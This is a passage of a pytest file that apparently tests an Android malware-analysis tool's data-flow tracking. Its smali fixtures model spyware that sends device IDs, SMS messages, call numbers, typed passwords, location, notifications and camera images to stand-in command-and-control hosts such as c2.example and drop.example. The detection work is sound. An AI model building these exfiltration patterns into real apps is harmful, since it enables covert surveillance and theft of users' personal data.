new-instance v2, Landroid/content/ContentValues;
invoke-direct {v2} Landroid/content/ContentValues;-><init>()V
const-string v3, "v"
invoke-virtual {v2, v3, v1} Landroid/content/ContentValues;->put(Ljava/lang/String;Ljava/lang/String;)V
const-string v3, "log"
const/4 v4, 0
move-object v5, v4
check-cast v5, Landroid/database/sqlite/SQLiteDatabase;
invoke-virtual {v5, v3, v4, v2} Landroid/database/sqlite/SQLiteDatabase;->insert(Ljava/lang/String;Ljava/lang/String;Landroid/content/ContentValues;)J
const-string v3, "SELECT v FROM log"
invoke-virtual {v5, v3, v4} Landroid/database/sqlite/SQLiteDatabase;->rawQuery(Ljava/lang/String;[Ljava/lang/String;)Landroid/database/Cursor;
move-result-object v6
const/4 v7, 0
invoke-interface {v6, v7} Landroid/database/Cursor;->getString(I)Ljava/lang/String;
move-result-object v1
@SEND@
""",
        ("device-id", "http", "c2.example"),
    ),
    "installed apps loop": (
        """
invoke-virtual {v11} Lapp/Main;->getPackageManager()Landroid/content/pm/PackageManager;
move-result-object v0
const/4 v1, 0
invoke-virtual {v0, v1} Landroid/content/pm/PackageManager;->getInstalledPackages(I)Ljava/util/List;
move-result-object v2
new-instance v5, Ljava/lang/StringBuilder;
invoke-direct {v5} Ljava/lang/StringBuilder;-><init>()V
invoke-interface {v2} Ljava/util/List;->iterator()Ljava/util/Iterator;
move-result-object v3
:l
invoke-interface {v3} Ljava/util/Iterator;->hasNext()Z
move-result v4
if-eqz v4, :e
invoke-interface {v3} Ljava/util/Iterator;->next()Ljava/lang/Object;
move-result-object v4
check-cast v4, Landroid/content/pm/PackageInfo;
iget-object v4, v4, Landroid/content/pm/PackageInfo;->packageName:Ljava/lang/String;
invoke-virtual {v5, v4} Ljava/lang/StringBuilder;->append(Ljava/lang/String;)Ljava/lang/StringBuilder;
goto :l
:e
invoke-virtual {v5} Ljava/lang/StringBuilder;->toString()Ljava/lang/String;
move-result-object v1
@SEND@
""",
        ("installed-apps", "http", "c2.example"),
    ),
    "sms pdus classic": (
        """
return-void
.class Lapp/R; Landroid/content/BroadcastReceiver;
.method onReceive(Landroid/content/Context;Landroid/content/Intent;)V 12
invoke-virtual {v11} Landroid/content/Intent;->getExtras()Landroid/os/Bundle;
move-result-object v0
const-string v1, "pdus"
invoke-virtual {v0, v1} Landroid/os/Bundle;->get(Ljava/lang/String;)Ljava/lang/Object;
move-result-object v0
check-cast v0, [Ljava/lang/Object;
array-length v2, v0
const/4 v3, 0
:l
if-ge v3, v2, :e
aget-object v4, v0, v3
check-cast v4, [B
invoke-static {v4} Landroid/telephony/SmsMessage;->createFromPdu([B)Landroid/telephony/SmsMessage;
move-result-object v4
invoke-virtual {v4} Landroid/telephony/SmsMessage;->getMessageBody()Ljava/lang/String;
move-result-object v1
const-string v5, "http://c2.example/x"
invoke-static {v5, v1} Lapp/Net;->post(Ljava/lang/String;Ljava/lang/String;)V
add-int/lit8 v3, v3, 1
goto :l
:e
return-void
""",
        ("sms", "http", "c2.example"),
    ),
    "incoming number": (
        """
return-void
.class Lapp/R; Landroid/content/BroadcastReceiver;
.method onReceive(Landroid/content/Context;Landroid/content/Intent;)V 12
const-string v1, "incoming_number"
invoke-virtual {v11, v1} Landroid/content/Intent;->getStringExtra(Ljava/lang/String;)Ljava/lang/String;
move-result-object v1
@SEND@
""",
        ("call-log", "http", "c2.example"),
    ),
    "text watcher": (
        """
new-instance v2, Landroid/widget/EditText;
invoke-direct {v2, v11} Landroid/widget/EditText;-><init>(Landroid/content/Context;)V
const/16 v3, 129
invoke-virtual {v2, v3} Landroid/widget/EditText;->setInputType(I)V
new-instance v3, Lapp/W;
invoke-direct {v3} Lapp/W;-><init>()V
invoke-virtual {v2, v3} Landroid/widget/EditText;->addTextChangedListener(Landroid/text/TextWatcher;)V
return-void
.class Lapp/W; Ljava/lang/Object; Landroid/text/TextWatcher;
.method <init>()V 2
invoke-direct {v1} Ljava/lang/Object;-><init>()V
return-void
.method afterTextChanged(Landroid/text/Editable;)V 8
invoke-virtual {v7} Ljava/lang/Object;->toString()Ljava/lang/String;
move-result-object v1
@SEND@
""",
        ("account-password", "http", "c2.example"),
    ),
    "location via fused task": (
        """
invoke-static {v11} Lcom/google/android/gms/location/LocationServices;->getFusedLocationProviderClient(Landroid/content/Context;)Lcom/google/android/gms/location/FusedLocationProviderClient;
move-result-object v0
invoke-virtual {v0} Lcom/google/android/gms/location/FusedLocationProviderClient;->getLastLocation()Lcom/google/android/gms/tasks/Task;
move-result-object v0
new-instance v1, Lapp/S;
invoke-direct {v1} Lapp/S;-><init>()V
invoke-virtual {v0, v1} Lcom/google/android/gms/tasks/Task;->addOnSuccessListener(Lcom/google/android/gms/tasks/OnSuccessListener;)Lcom/google/android/gms/tasks/Task;
return-void
.class Lapp/S; Ljava/lang/Object; Lcom/google/android/gms/tasks/OnSuccessListener;
.method <init>()V 2
invoke-direct {v1} Ljava/lang/Object;-><init>()V
return-void
.method onSuccess(Ljava/lang/Object;)V 8
invoke-static {v7} Ljava/lang/String;->valueOf(Ljava/lang/Object;)Ljava/lang/String;
move-result-object v1
@SEND@
""",
        ("location", "http", "c2.example"),
    ),
    "javamail": (
        """
@IMEI@

new-instance v2, Ljava/util/Properties;
invoke-direct {v2} Ljava/util/Properties;-><init>()V
const-string v3, "mail.smtp.host"
const-string v4, "smtp.drop.example"
invoke-virtual {v2, v3, v4} Ljava/util/Properties;->put(Ljava/lang/Object;Ljava/lang/Object;)Ljava/lang/Object;
const/4 v5, 0
invoke-static {v2, v5} Ljavax/mail/Session;->getInstance(Ljava/util/Properties;Ljavax/mail/Authenticator;)Ljavax/mail/Session;
move-result-object v2
new-instance v3, Ljavax/mail/internet/MimeMessage;
invoke-direct {v3, v2} Ljavax/mail/internet/MimeMessage;-><init>(Ljavax/mail/Session;)V
invoke-virtual {v3, v1} Ljavax/mail/internet/MimeMessage;->setText(Ljava/lang/String;)V
invoke-static {v3} Ljavax/mail/Transport;->send(Ljavax/mail/Message;)V
return-void
""",
        ("device-id", "email", "smtp.drop.example"),
    ),
    "commons ftp": (
        """
@IMEI@

new-instance v2, Lorg/apache/commons/net/ftp/FTPClient;
invoke-direct {v2} Lorg/apache/commons/net/ftp/FTPClient;-><init>()V
const-string v3, "ftp.drop.example"
invoke-virtual {v2, v3} Lorg/apache/commons/net/ftp/FTPClient;->connect(Ljava/lang/String;)V
invoke-virtual {v1} Ljava/lang/String;->getBytes()[B
move-result-object v4
new-instance v5, Ljava/io/ByteArrayInputStream;
invoke-direct {v5, v4} Ljava/io/ByteArrayInputStream;-><init>([B)V
const-string v6, "a.txt"
invoke-virtual {v2, v6, v5} Lorg/apache/commons/net/ftp/FTPClient;->storeFile(Ljava/lang/String;Ljava/io/InputStream;)Z
return-void
""",
        ("device-id", "ftp", "ftp.drop.example"),
    ),
    "mqtt": (
        """
@IMEI@

new-instance v2, Lorg/eclipse/paho/client/mqttv3/MqttClient;
const-string v3, "tcp://broker.drop.example:1883"
const-string v4, "id"
invoke-direct {v2, v3, v4} Lorg/eclipse/paho/client/mqttv3/MqttClient;-><init>(Ljava/lang/String;Ljava/lang/String;)V
new-instance v5, Lorg/eclipse/paho/client/mqttv3/MqttMessage;
invoke-virtual {v1} Ljava/lang/String;->getBytes()[B
move-result-object v6
invoke-direct {v5, v6} Lorg/eclipse/paho/client/mqttv3/MqttMessage;-><init>([B)V
invoke-virtual {v2, v4, v5} Lorg/eclipse/paho/client/mqttv3/MqttClient;->publish(Ljava/lang/String;Lorg/eclipse/paho/client/mqttv3/MqttMessage;)V
return-void
""",
        ("device-id", "socket", "broker.drop.example"),
    ),
    "okhttp websocket": (
        """
@IMEI@

new-instance v3, Lokhttp3/Request$Builder;
invoke-direct {v3} Lokhttp3/Request$Builder;-><init>()V
const-string v4, "wss://ws.drop.example/a"
invoke-virtual {v3, v4} Lokhttp3/Request$Builder;->url(Ljava/lang/String;)Lokhttp3/Request$Builder;
move-result-object v3
invoke-virtual {v3} Lokhttp3/Request$Builder;->build()Lokhttp3/Request;
move-result-object v3
new-instance v4, Lokhttp3/OkHttpClient;
invoke-direct {v4} Lokhttp3/OkHttpClient;-><init>()V
const/4 v5, 0
invoke-virtual {v4, v3, v5} Lokhttp3/OkHttpClient;->newWebSocket(Lokhttp3/Request;Lokhttp3/WebSocketListener;)Lokhttp3/WebSocket;
move-result-object v4
invoke-interface {v4, v1} Lokhttp3/WebSocket;->send(Ljava/lang/String;)Z
return-void
""",
        ("device-id", "socket", "ws.drop.example"),
    ),
    "socket connect addr": (
        """
@IMEI@

new-instance v2, Ljava/net/Socket;
invoke-direct {v2} Ljava/net/Socket;-><init>()V
new-instance v3, Ljava/net/InetSocketAddress;
const-string v4, "203.0.113.9"
const/16 v5, 8081
invoke-direct {v3, v4, v5} Ljava/net/InetSocketAddress;-><init>(Ljava/lang/String;I)V
const/16 v5, 3000
invoke-virtual {v2, v3, v5} Ljava/net/Socket;->connect(Ljava/net/SocketAddress;I)V
new-instance v6, Ljava/io/DataOutputStream;
invoke-virtual {v2} Ljava/net/Socket;->getOutputStream()Ljava/io/OutputStream;
move-result-object v7
invoke-direct {v6, v7} Ljava/io/DataOutputStream;-><init>(Ljava/io/OutputStream;)V
invoke-virtual {v6, v1} Ljava/io/DataOutputStream;->writeUTF(Ljava/lang/String;)V
return-void
""",
        ("device-id", "socket", "203.0.113.9:8081"),
    ),
    "ssl socket": (
        """
@IMEI@

invoke-static {} Ljavax/net/ssl/SSLSocketFactory;->getDefault()Ljavax/net/SocketFactory;
move-result-object v2
const-string v4, "tls.drop.example"
const/16 v5, 8443
invoke-virtual {v2, v4, v5} Ljavax/net/SocketFactory;->createSocket(Ljava/lang/String;I)Ljava/net/Socket;
move-result-object v2
invoke-virtual {v2} Ljava/net/Socket;->getOutputStream()Ljava/io/OutputStream;
move-result-object v7
invoke-virtual {v1} Ljava/lang/String;->getBytes()[B
move-result-object v6
invoke-virtual {v7, v6} Ljava/io/OutputStream;->write([B)V
return-void
""",
        ("device-id", "socket", "tls.drop.example:8443"),
    ),
    "udp socketaddress": (
        """
@IMEI@

new-instance v3, Ljava/net/InetSocketAddress;
const-string v4, "203.0.113.9"
const/16 v5, 5353
invoke-direct {v3, v4, v5} Ljava/net/InetSocketAddress;-><init>(Ljava/lang/String;I)V
invoke-virtual {v1} Ljava/lang/String;->getBytes()[B
move-result-object v6
array-length v7, v6
new-instance v8, Ljava/net/DatagramPacket;
invoke-direct {v8, v6, v7, v3} Ljava/net/DatagramPacket;-><init>([BILjava/net/SocketAddress;)V
new-instance v9, Ljava/net/DatagramSocket;
invoke-direct {v9} Ljava/net/DatagramSocket;-><init>()V
invoke-virtual {v9, v8} Ljava/net/DatagramSocket;->send(Ljava/net/DatagramPacket;)V
return-void
""",
        ("device-id", "socket", "203.0.113.9:5353"),
    ),
    "class with base+path fields": (
        """
@IMEI@

new-instance v2, Lapp/Api;
const-string v3, "https://fld.drop.example"
invoke-direct {v2, v3} Lapp/Api;-><init>(Ljava/lang/String;)V
const-string v4, "/up"
invoke-virtual {v2, v4, v1} Lapp/Api;->send(Ljava/lang/String;Ljava/lang/String;)V
return-void
.class Lapp/Api;
.field b:Ljava/lang/String;
.method <init>(Ljava/lang/String;)V 3
invoke-direct {v1} Ljava/lang/Object;-><init>()V
iput-object v2, v1, Lapp/Api;->b:Ljava/lang/String;
return-void
.method send(Ljava/lang/String;Ljava/lang/String;)V 8
new-instance v0, Ljava/lang/StringBuilder;
invoke-direct {v0} Ljava/lang/StringBuilder;-><init>()V
iget-object v1, v5, Lapp/Api;->b:Ljava/lang/String;
invoke-virtual {v0, v1} Ljava/lang/StringBuilder;->append(Ljava/lang/String;)Ljava/lang/StringBuilder;
invoke-virtual {v0, v6} Ljava/lang/StringBuilder;->append(Ljava/lang/String;)Ljava/lang/StringBuilder;
invoke-virtual {v0} Ljava/lang/StringBuilder;->toString()Ljava/lang/String;
move-result-object v0
invoke-static {v0, v7} Lapp/Net;->post(Ljava/lang/String;Ljava/lang/String;)V
return-void
""",
        ("device-id", "http", "fld.drop.example"),
    ),
    "okhttp enqueue in obfuscated wrapper + multipart": (
        """
@IMEI@

new-instance v2, Lokhttp3/MultipartBody$Builder;
invoke-direct {v2} Lokhttp3/MultipartBody$Builder;-><init>()V
const-string v3, "file"
invoke-virtual {v2, v3, v1} Lokhttp3/MultipartBody$Builder;->addFormDataPart(Ljava/lang/String;Ljava/lang/String;)Lokhttp3/MultipartBody$Builder;
move-result-object v2
invoke-virtual {v2} Lokhttp3/MultipartBody$Builder;->build()Lokhttp3/MultipartBody;
move-result-object v2
new-instance v3, Lokhttp3/Request$Builder;
invoke-direct {v3} Lokhttp3/Request$Builder;-><init>()V
new-instance v4, Lokhttp3/HttpUrl$Builder;
invoke-direct {v4} Lokhttp3/HttpUrl$Builder;-><init>()V
const-string v5, "https"
invoke-virtual {v4, v5} Lokhttp3/HttpUrl$Builder;->scheme(Ljava/lang/String;)Lokhttp3/HttpUrl$Builder;
const-string v5, "mp.drop.example"
invoke-virtual {v4, v5} Lokhttp3/HttpUrl$Builder;->host(Ljava/lang/String;)Lokhttp3/HttpUrl$Builder;
const-string v5, "up"
invoke-virtual {v4, v5} Lokhttp3/HttpUrl$Builder;->addPathSegment(Ljava/lang/String;)Lokhttp3/HttpUrl$Builder;
invoke-virtual {v4} Lokhttp3/HttpUrl$Builder;->build()Lokhttp3/HttpUrl;
move-result-object v4
invoke-virtual {v3, v4} Lokhttp3/Request$Builder;->url(Lokhttp3/HttpUrl;)Lokhttp3/Request$Builder;
invoke-virtual {v3, v2} Lokhttp3/Request$Builder;->post(Lokhttp3/RequestBody;)Lokhttp3/Request$Builder;
invoke-virtual {v3} Lokhttp3/Request$Builder;->build()Lokhttp3/Request;
move-result-object v3
invoke-static {} Lapp/H;->c()Lokhttp3/OkHttpClient;
move-result-object v5
invoke-virtual {v5, v3} Lokhttp3/OkHttpClient;->newCall(Lokhttp3/Request;)Lokhttp3/Call;
return-void
.class Lapp/H;
.field static h:Lokhttp3/OkHttpClient;
.method static c()Lokhttp3/OkHttpClient; 2
sget-object v0, Lapp/H;->h:Lokhttp3/OkHttpClient;
if-nez v0, :x
new-instance v0, Lokhttp3/OkHttpClient;
invoke-direct {v0} Lokhttp3/OkHttpClient;-><init>()V
sput-object v0, Lapp/H;->h:Lokhttp3/OkHttpClient;
:x
return-object v0
""",
        ("device-id", "http", "mp.drop.example"),
    ),
    "uri builder GET": (
        """
@IMEI@

const-string v2, "https://q.drop.example/c"
invoke-static {v2} Landroid/net/Uri;->parse(Ljava/lang/String;)Landroid/net/Uri;
move-result-object v2
invoke-virtual {v2} Landroid/net/Uri;->buildUpon()Landroid/net/Uri$Builder;
move-result-object v2
const-string v3, "d"
invoke-virtual {v2, v3, v1} Landroid/net/Uri$Builder;->appendQueryParameter(Ljava/lang/String;Ljava/lang/String;)Landroid/net/Uri$Builder;
invoke-virtual {v2} Landroid/net/Uri$Builder;->build()Landroid/net/Uri;
move-result-object v2
invoke-virtual {v2} Landroid/net/Uri;->toString()Ljava/lang/String;
move-result-object v2
new-instance v3, Ljava/net/URL;
invoke-direct {v3, v2} Ljava/net/URL;-><init>(Ljava/lang/String;)V
invoke-virtual {v3} Ljava/net/URL;->openConnection()Ljava/net/URLConnection;
return-void
""",
        ("device-id", "http", "q.drop.example"),
    ),
    "handler message": (
        """
@IMEI@

new-instance v2, Lapp/H;
invoke-direct {v2} Lapp/H;-><init>()V
const/4 v3, 1
invoke-virtual {v2, v3, v1} Lapp/H;->obtainMessage(ILjava/lang/Object;)Landroid/os/Message;
move-result-object v3
invoke-virtual {v2, v3} Lapp/H;->sendMessage(Landroid/os/Message;)Z
return-void
.class Lapp/H; Landroid/os/Handler;
.method <init>()V 2
invoke-direct {v1} Landroid/os/Handler;-><init>()V
return-void
.method handleMessage(Landroid/os/Message;)V 8
iget-object v1, v7, Landroid/os/Message;->obj:Ljava/lang/Object;
check-cast v1, Ljava/lang/String;
@SEND@
""",
        ("device-id", "http", "c2.example"),
    ),
    "timer + static queue": (
        """
@IMEI@

sget-object v2, Lapp/Q;->l:Ljava/util/List;
invoke-interface {v2, v1} Ljava/util/List;->add(Ljava/lang/Object;)Z
new-instance v3, Ljava/util/Timer;
invoke-direct {v3} Ljava/util/Timer;-><init>()V
new-instance v4, Lapp/T;
invoke-direct {v4} Lapp/T;-><init>()V
const-wide/16 v5, 0
const-wide/16 v7, 1000
invoke-virtual/range {v3, v4, v5, v6, v7, v8} Ljava/util/Timer;->schedule(Ljava/util/TimerTask;JJ)V
return-void
.class Lapp/Q;
.field static l:Ljava/util/List;
.method static <clinit>()V 2
new-instance v0, Ljava/util/ArrayList;
invoke-direct {v0} Ljava/util/ArrayList;-><init>()V
sput-object v0, Lapp/Q;->l:Ljava/util/List;
return-void
.class Lapp/T; Ljava/util/TimerTask;
.method <init>()V 2
invoke-direct {v1} Ljava/util/TimerTask;-><init>()V
return-void
.method run()V 8
sget-object v2, Lapp/Q;->l:Ljava/util/List;
const/4 v3, 0
invoke-interface {v2, v3} Ljava/util/List;->get(I)Ljava/lang/Object;
move-result-object v1
check-cast v1, Ljava/lang/String;
@SEND@
""",
        ("device-id", "http", "c2.example"),
    ),
    "map json form body encode": (
        """
@IMEI@

new-instance v2, Ljava/util/HashMap;
invoke-direct {v2} Ljava/util/HashMap;-><init>()V
const-string v3, "k"
invoke-virtual {v2, v3, v1} Ljava/util/HashMap;->put(Ljava/lang/Object;Ljava/lang/Object;)Ljava/lang/Object;
new-instance v4, Ljava/lang/StringBuilder;
invoke-direct {v4} Ljava/lang/StringBuilder;-><init>()V
invoke-virtual {v2} Ljava/util/HashMap;->entrySet()Ljava/util/Set;
move-result-object v5
invoke-interface {v5} Ljava/util/Set;->iterator()Ljava/util/Iterator;
move-result-object v5
:l
invoke-interface {v5} Ljava/util/Iterator;->hasNext()Z
move-result v6
if-eqz v6, :e
invoke-interface {v5} Ljava/util/Iterator;->next()Ljava/lang/Object;
move-result-object v6
check-cast v6, Ljava/util/Map$Entry;
invoke-interface {v6} Ljava/util/Map$Entry;->getValue()Ljava/lang/Object;
move-result-object v7
check-cast v7, Ljava/lang/String;
const-string v8, "UTF-8"
invoke-static {v7, v8} Ljava/net/URLEncoder;->encode(Ljava/lang/String;Ljava/lang/String;)Ljava/lang/String;
move-result-object v7
invoke-virtual {v4, v7} Ljava/lang/StringBuilder;->append(Ljava/lang/String;)Ljava/lang/StringBuilder;
goto :l
:e
invoke-virtual {v4} Ljava/lang/StringBuilder;->toString()Ljava/lang/String;
move-result-object v1
@SEND@
""",
        ("device-id", "http", "c2.example"),
    ),
    "gson object": (
        """
@IMEI@

new-instance v2, Lapp/U;
invoke-direct {v2} Lapp/U;-><init>()V
iput-object v1, v2, Lapp/U;->a:Ljava/lang/String;
new-instance v3, Lcom/google/gson/Gson;
invoke-direct {v3} Lcom/google/gson/Gson;-><init>()V
invoke-virtual {v3, v2} Lcom/google/gson/Gson;->toJson(Ljava/lang/Object;)Ljava/lang/String;
move-result-object v1
@SEND@

.class Lapp/U;
.field a:Ljava/lang/String;
.method <init>()V 2
invoke-direct {v1} Ljava/lang/Object;-><init>()V
return-void
""",
        ("device-id", "http", "c2.example"),
    ),
    "file then upload (openFileOutput)": (
        """
@IMEI@

const-string v2, "q.dat"
const/4 v3, 0
invoke-virtual {v11, v2, v3} Lapp/Main;->openFileOutput(Ljava/lang/String;I)Ljava/io/FileOutputStream;
move-result-object v4
invoke-virtual {v1} Ljava/lang/String;->getBytes()[B
move-result-object v5
invoke-virtual {v4, v5} Ljava/io/FileOutputStream;->write([B)V
invoke-virtual {v11} Lapp/Main;->getFilesDir()Ljava/io/File;
move-result-object v6
new-instance v7, Ljava/io/File;
invoke-direct {v7, v6, v2} Ljava/io/File;-><init>(Ljava/io/File;Ljava/lang/String;)V
new-instance v8, Ljava/io/BufferedReader;
new-instance v9, Ljava/io/FileReader;
invoke-direct {v9, v7} Ljava/io/FileReader;-><init>(Ljava/io/File;)V
invoke-direct {v8, v9} Ljava/io/BufferedReader;-><init>(Ljava/io/Reader;)V
invoke-virtual {v8} Ljava/io/BufferedReader;->readLine()Ljava/lang/String;
move-result-object v1
@SEND@
""",
        ("device-id", "http", "c2.example"),
    ),
    "notif listener": (
        """
return-void
.class Lapp/N; Landroid/service/notification/NotificationListenerService;
.method onNotificationPosted(Landroid/service/notification/StatusBarNotification;)V 8
invoke-virtual {v7} Landroid/service/notification/StatusBarNotification;->getNotification()Landroid/app/Notification;
move-result-object v0
iget-object v0, v0, Landroid/app/Notification;->tickerText:Ljava/lang/CharSequence;
invoke-static {v0} Ljava/lang/String;->valueOf(Ljava/lang/Object;)Ljava/lang/String;
move-result-object v1
@SEND@
""",
        ("notifications", "http", "c2.example"),
    ),
    "unknown http kit": (
        """
@IMEI@

const-string v2, "https://kit.drop.example/p"
invoke-static {v2} Lcom/androidnetworking/AndroidNetworking;->post(Ljava/lang/String;)Lcom/androidnetworking/common/ANRequest$PostRequestBuilder;
move-result-object v2
const-string v3, "k"
invoke-virtual {v2, v3, v1} Lcom/androidnetworking/common/ANRequest$PostRequestBuilder;->addBodyParameter(Ljava/lang/String;Ljava/lang/String;)Lcom/androidnetworking/common/ANRequest$PostRequestBuilder;
move-result-object v2
invoke-virtual {v2} Lcom/androidnetworking/common/ANRequest$PostRequestBuilder;->build()Lcom/androidnetworking/common/ANRequest;
move-result-object v2
const/4 v3, 0
invoke-virtual {v2, v3} Lcom/androidnetworking/common/ANRequest;->getAsString(Lcom/androidnetworking/interfaces/StringRequestListener;)V
return-void
""",
        ("device-id", "http", "kit.drop.example"),
    ),
    "camerax file": (
        """
new-instance v1, Ljava/io/File;
const-string v2, "/data/x.jpg"
invoke-direct {v1, v2} Ljava/io/File;-><init>(Ljava/lang/String;)V
new-instance v3, Landroidx/camera/core/ImageCapture$OutputFileOptions$Builder;
invoke-direct {v3, v1} Landroidx/camera/core/ImageCapture$OutputFileOptions$Builder;-><init>(Ljava/io/File;)V
invoke-virtual {v3} Landroidx/camera/core/ImageCapture$OutputFileOptions$Builder;->build()Landroidx/camera/core/ImageCapture$OutputFileOptions;
move-result-object v3
const/4 v5, 0
move-object v6, v5
check-cast v6, Landroidx/camera/core/ImageCapture;
invoke-virtual {v6, v3, v5, v5} Landroidx/camera/core/ImageCapture;->takePicture(Landroidx/camera/core/ImageCapture$OutputFileOptions;Ljava/util/concurrent/Executor;Landroidx/camera/core/ImageCapture$OnImageSavedCallback;)V
new-instance v4, Ljava/io/FileInputStream;
invoke-direct {v4, v1} Ljava/io/FileInputStream;-><init>(Ljava/io/File;)V
const/16 v5, 100
new-array v5, v5, [B
invoke-virtual {v4, v5} Ljava/io/FileInputStream;->read([B)I
const/4 v6, 0
invoke-static {v5, v6} Landroid/util/Base64;->encodeToString([BI)Ljava/lang/String;
move-result-object v1
@SEND@
""",
        ("camera", "http", "c2.example"),
    ),
    "loopj": (
        """
@IMEI@

new-instance v2, Lcom/loopj/android/http/RequestParams;
invoke-direct {v2} Lcom/loopj/android/http/RequestParams;-><init>()V
const-string v3, "k"
invoke-virtual {v2, v3, v1} Lcom/loopj/android/http/RequestParams;->put(Ljava/lang/String;Ljava/lang/String;)V
new-instance v4, Lcom/loopj/android/http/AsyncHttpClient;
invoke-direct {v4} Lcom/loopj/android/http/AsyncHttpClient;-><init>()V
const-string v5, "http://lj.drop.example/a"
const/4 v6, 0
invoke-virtual {v4, v5, v2, v6} Lcom/loopj/android/http/AsyncHttpClient;->post(Ljava/lang/String;Lcom/loopj/android/http/RequestParams;Lcom/loopj/android/http/ResponseHandlerInterface;)Lcom/loopj/android/http/RequestHandle;
return-void
""",
        ("device-id", "http", "lj.drop.example"),
    ),
}


@pytest.mark.parametrize("way", HIDDEN)
def test_a_hidden_address_is_computed(way: str, analyse: Analyse) -> None:
    body, more, files = HIDDEN[way]
    text = f"{MAIN}{body}\ninvoke-static {{v0}} Lapp/Net;->open(Ljava/lang/String;)V\nreturn-void\n{more}"
    assert URL in {e.value for e in analyse(text, Assets(files)).endpoints}


@pytest.mark.parametrize("way", MOVED)
def test_data_is_followed(way: str, analyse: Analyse) -> None:
    body, expected = MOVED[way]
    text = MAIN + body.replace("@IMEI@", IMEI).replace("@SEND@", SEND)
    assert expected in {(f.data.value, f.sink.value, f.endpoint) for f in analyse(text).flows}
